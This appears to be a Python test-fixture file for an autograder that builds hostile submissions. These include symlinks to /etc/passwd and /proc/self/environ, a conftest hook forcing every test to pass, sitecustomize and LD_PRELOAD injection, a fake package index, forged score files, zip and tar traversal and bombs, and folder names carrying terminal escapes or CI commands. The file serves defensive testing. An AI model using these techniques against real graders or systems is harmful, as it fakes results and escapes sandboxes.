"""Hostile submissions that are more than one file: links, devices, archives, bombs, and files beside the module.

Each function gets a path to build at and the text of an honest wrong module, and returns what is to be graded.
"""

from __future__ import annotations

import bz2
import gzip
import io
import os
import stat
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.conftest import ROOT

Builder = Callable[[Path, str], Path]
SMUGGLED: dict[str, Builder] = {}

LEAK = "print('LEAK')\nraise SystemExit('LEAK')\n"
"""What smuggled code does, should it ever run."""

HOOK = """
import pytest
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    report = (yield).get_result()
    report.outcome = "passed"
"""

NUMPY = "def zeros(*args): print('LEAK')\nndarray = shape = asarray = zeros\n"

MODULE = "a2_pmi/pmi.py"


def _builder(build: Builder) -> Builder:
    SMUGGLED[build.__name__.strip("_")] = build
    return build


def _folder(place: Path, text: str, **beside: str) -> Path:
    (place / "a2_pmi").mkdir(parents=True)
    (place / MODULE).write_text(text, "utf-8")
    for name, content in beside.items():
        for folder in (place, place / "a2_pmi"):
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(content, "utf-8")
    return place


BESIDE = {
    "conftest": {"conftest.py": HOOK, "plugin.py": HOOK},
    "pytest_settings": {
        "pytest.ini": "[pytest]\naddopts = -p plugin -k nothing\npython_files = *.txt\n",
        "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '--collect-only'\n",
        "tox.ini": "[pytest]\naddopts = --collect-only\n",
        "setup.cfg": "[tool:pytest]\naddopts = --collect-only\n",
    },
    "sitecustomize": {"sitecustomize.py": LEAK, "usercustomize.py": LEAK, "x.pth": "import os; print('LEAK')\n"},
    "numpy_of_its_own": {"numpy.py": NUMPY, "numpy/__init__.py": NUMPY, "msgspec.py": LEAK, "random.py": LEAK},
    "autograder_of_its_own": {
        "autograder/__init__.py": LEAK,
        "autograder/compare.py": LEAK,
        "autograder/wire.py": LEAK,
    },
    "reference_of_its_own": {"reference/a2_pmi/pmi.py": LEAK, "reference/a2_pmi/tasks.toml": "", "reference.py": LEAK},
    "tests_of_its_own": {"tests/hidden/test_pmi.py": "def test_ppmi(): pass\n", "tests/__init__.py": LEAK},
    "requirements": {
        "requirements.txt": "--index-url http://192.0.2.1/\nevil\n",
        "setup.py": LEAK,
        "Makefile": "all:\n\techo LEAK\n",
    },
    "environment_files": {".env": "LD_PRELOAD=/evil.so\n", ".python-version": "2.7\n", "pyvenv.cfg": "home = /evil\n"},
    "compiled": {
        "pmi.cpython-311-x86_64-linux-gnu.so": "LEAK",
        "pmi.so": "LEAK",
        "pmi.pyc": "LEAK",
        "__pycache__/pmi.cpython-311.pyc": "LEAK",
        "pmi/__init__.py": LEAK,
    },
    "results": {"results.json": '{"score": 4}', "report.json": '{"score": 4}', ".firth/results.json": '{"score": 4}'},
}
for _name, _files in BESIDE.items():
    SMUGGLED[_name] = lambda place, text, files=_files: _folder(place, text, **files)


# Links and other things that are no files


def _instead(place: Path, text: str) -> Path:
    """The place of the module, empty."""
    _folder(place, text)
    (place / MODULE).unlink()
    return place / MODULE


@_builder
def link_to_the_reference(place: Path, text: str) -> Path:
    _instead(place, text).symlink_to(ROOT / "reference" / MODULE)
    return place


@_builder
def link_to_a_secret(place: Path, text: str) -> Path:
    _instead(place, text).symlink_to("/etc/passwd")
    return place


@_builder
def link_of_the_folder(place: Path, text: str) -> Path:
    place.mkdir()
    (place / "a2_pmi").symlink_to(ROOT / "reference" / "a2_pmi")
    return place


@_builder
def link_to_itself(place: Path, text: str) -> Path:
    _instead(place, text).symlink_to("pmi.py")
    return place


@_builder
def link_to_memory(place: Path, text: str) -> Path:
    _instead(place, text).symlink_to("/proc/self/environ")
    return place


@_builder
def hard_link(place: Path, text: str) -> Path:
    _folder(place, text)
    os.link(place / MODULE, place / "twin.py")
    return place


@_builder
def folder_as_module(place: Path, text: str) -> Path:
    _instead(place, text).mkdir()
    return place


@_builder
def pipe_as_module(place: Path, text: str) -> Path:
    os.mkfifo(_instead(place, text))
    return place


@_builder
def device_as_module(place: Path, text: str) -> Path:
    path = _instead(place, text)
    try:
        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 5))
    except PermissionError:
        path.symlink_to("/dev/zero")
    return place


@_builder
def pipe_as_archive(place: Path, text: str) -> Path:
    os.mkfifo(place.with_suffix(".zip"))
    return place.with_suffix(".zip")


# Text that is no source


@_builder
def blank_lines(place: Path, text: str) -> Path:
    """A quarter of a million of them: patterns that match across lines take for ever."""
    return _folder(place, text + "\n" * 250_000)


@_builder
def large_source(place: Path, text: str) -> Path:
    return _folder(place, text + "#" * (4 << 20))


@_builder
def deep_source(place: Path, text: str) -> Path:
    """Brackets that exhaust a parser."""
    return _folder(place, text + "x = " + "(" * 100_000)


@_builder
def wide_source(place: Path, text: str) -> Path:
    """A tree of syntax six hundred times as large as its text."""
    return _folder(place, text + "x = [" + "-1," * 80_000 + "]\n")


@_builder
def other_encoding(place: Path, text: str) -> Path:
    """Code that only one of reader and interpreter can see."""
    return _folder(place, f"# -*- coding: utf-7 -*-\n{text}# +AAo-print('LEAK')\n")


@_builder
def no_text(place: Path, text: str) -> Path:
    _folder(place, text)
    (place / MODULE).write_bytes(b"\0\xff\xfe" + text.encode())
    return place


# Names


def _named(name: bytes) -> Builder:
    return lambda place, text: _folder(Path(os.fsdecode(os.fsencode(place.parent) + b"/" + name)), text)


NAMES_OF_FOLDERS = {
    "name_with_escapes": b"\x1b[2J\x1b]0;owned\x07\r\x9b",
    "name_with_lines": b"x\n::error::owned\n##[error]owned",
    "name_with_command": b"::set-output name=score::4",
    "name_that_is_no_text": b"student\xff\xfe",
    "name_with_direction": "\u202e4 fo 4\u2066".encode(),
    "name_with_markup": b"[bold]4 of 4[bold] [link=x]y",
    "name_with_formula": b"=HYPERLINK(1)",
    "name_with_html": b"<script>alert(1)<script>",
    "name_with_options": b"--collect-only",
}
for _name, _bytes in NAMES_OF_FOLDERS.items():
    SMUGGLED[_name] = _named(_bytes)


# Zip


def _zip(place: Path, *members: tuple[str | zipfile.ZipInfo, bytes | str]) -> Path:
    path = place.with_suffix(".zip")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return path


@_builder
def zip_traversal(place: Path, text: str) -> Path:
    return _zip(place, (f"../{MODULE}", LEAK), (f"/{MODULE}", LEAK), (f"a/../{MODULE}", LEAK), ("..\\evil.py", LEAK))


@_builder
def zip_link(place: Path, text: str) -> Path:
    link = zipfile.ZipInfo(MODULE)
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    return _zip(place, (link, str(ROOT / "reference" / MODULE)))


@_builder
def zip_twice(place: Path, text: str) -> Path:
    return _zip(place, (MODULE, text), (MODULE, LEAK))


@_builder
def zip_case_twin(place: Path, text: str) -> Path:
    return _zip(place, (MODULE, text), (MODULE.upper(), LEAK), ("a2_pmi/PMI.py", LEAK))


@_builder
def zip_bomb(place: Path, text: str) -> Path:
    return _zip(place, (MODULE, b"#" * (64 << 20)))


@_builder
def zip_of_many(place: Path, text: str) -> Path:
    """A hundred thousand entries in the index, all of them empty."""
    path = _zip(place, ("x", b""))
    data = path.read_bytes()
    start = data.index(b"PK\1\2")
    end = data.index(b"PK\5\6")
    index = data[start:end] * 100_000
    path.write_bytes(
        data[:start] + index + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 65535, 65535, len(index), start, 0)
    )
    return path


@_builder
def zip_in_pieces(place: Path, text: str) -> Path:
    """Damaged in its middle, so that unpacking fails late."""
    path = _zip(place, (MODULE, os.urandom(10_000)))
    data = bytearray(path.read_bytes())
    data[5000:5040] = b"\xff" * 40
    path.write_bytes(data)
    return path


@_builder
def zip_that_is_none(place: Path, text: str) -> Path:
    place.with_suffix(".zip").write_bytes(b"PK\3\4" + b"\xff" * 5000)
    return place.with_suffix(".zip")


# Tar


def _tar(place: Path, *members: tarfile.TarInfo, content: bytes = b"") -> Path:
    path = place.with_suffix(".tar.gz")
    with tarfile.open(path, "w:gz", compresslevel=1) as archive:
        for member in members:
            member.size = len(content) if member.isreg() else 0
            archive.addfile(member, io.BytesIO(content))
    return path


def _special(kind: bytes, target: str = "", name: str = MODULE) -> tarfile.TarInfo:
    member = tarfile.TarInfo(name)
    member.type, member.linkname = kind, target
    return member


def _header(name: str, kind: bytes, size: int) -> bytes:
    member = _special(kind, name=name)
    member.size = size
    return member.tobuf(tarfile.GNU_FORMAT)


@_builder
def tar_links(place: Path, text: str) -> Path:
    outside = _special(tarfile.SYMTYPE, str(ROOT / "reference"), name="x")
    return _tar(place, outside, _special(tarfile.LNKTYPE, f"x/{MODULE}"))


@_builder
def tar_link(place: Path, text: str) -> Path:
    return _tar(place, _special(tarfile.SYMTYPE, str(ROOT / "reference" / MODULE)))


@_builder
def tar_device(place: Path, text: str) -> Path:
    return _tar(place, _special(tarfile.CHRTYPE))


@_builder
def tar_traversal(place: Path, text: str) -> Path:
    return _tar(place, tarfile.TarInfo(f"../{MODULE}"), tarfile.TarInfo(f"/tmp/{MODULE}"), content=LEAK.encode())


@_builder
def tar_bomb(place: Path, text: str) -> Path:
    """One large file before the module: to reach the module, all of it has to be unpacked."""
    path = place.with_suffix(".tar.gz")
    with gzip.open(path, "wb", compresslevel=1) as file:
        file.write(_header("x", tarfile.REGTYPE, 1 << 40))
        for _ in range(160):
            file.write(b"\0" * (1 << 20))
    return path


@_builder
def tar_bomb_in_a_header(place: Path, text: str) -> Path:
    """A name of 256 MiB: headers are read whole."""
    path = place.with_suffix(".tar.gz")
    with gzip.open(path, "wb", compresslevel=1) as file:
        file.write(_header("x", tarfile.GNUTYPE_LONGNAME, 1 << 28))
        for _ in range(160):
            file.write(b"\0" * (1 << 20))
    return path


@_builder
def tar_bomb_in_bzip(place: Path, text: str) -> Path:
    """Compressed as nothing else is."""
    path = place.with_suffix(".tar.gz")
    path.write_bytes(bz2.compress(_header("x", tarfile.REGTYPE, 1 << 26) + b"\0" * (1 << 26)))
    return path


@_builder
def tar_of_names(place: Path, text: str) -> Path:
    """Names of names of names: each header is read within the one before."""
    name = _header("././@LongLink", tarfile.GNUTYPE_LONGNAME, 10) + b"x" * 10 + b"\0" * 502
    place.with_suffix(".tar").write_bytes(name * 5000)
    return place.with_suffix(".tar")


@_builder
def tar_with_a_lie(place: Path, text: str) -> Path:
    """Claims that cannot be true: of lengths, and of holes."""
    lies = b"".join(_header("x", kind, 1 << 62) for kind in (tarfile.XHDTYPE, tarfile.GNUTYPE_SPARSE, tarfile.REGTYPE))
    place.with_suffix(".tar").write_bytes(lies)
    return place.with_suffix(".tar")


@_builder
def tar_in_pieces(place: Path, text: str) -> Path:
    """Damaged in its middle."""
    path = _tar(place, tarfile.TarInfo(MODULE), content=os.urandom(20_000))
    data = bytearray(path.read_bytes())
    data[5000:5100] = b"\xff" * 100
    path.write_bytes(data)
    return path
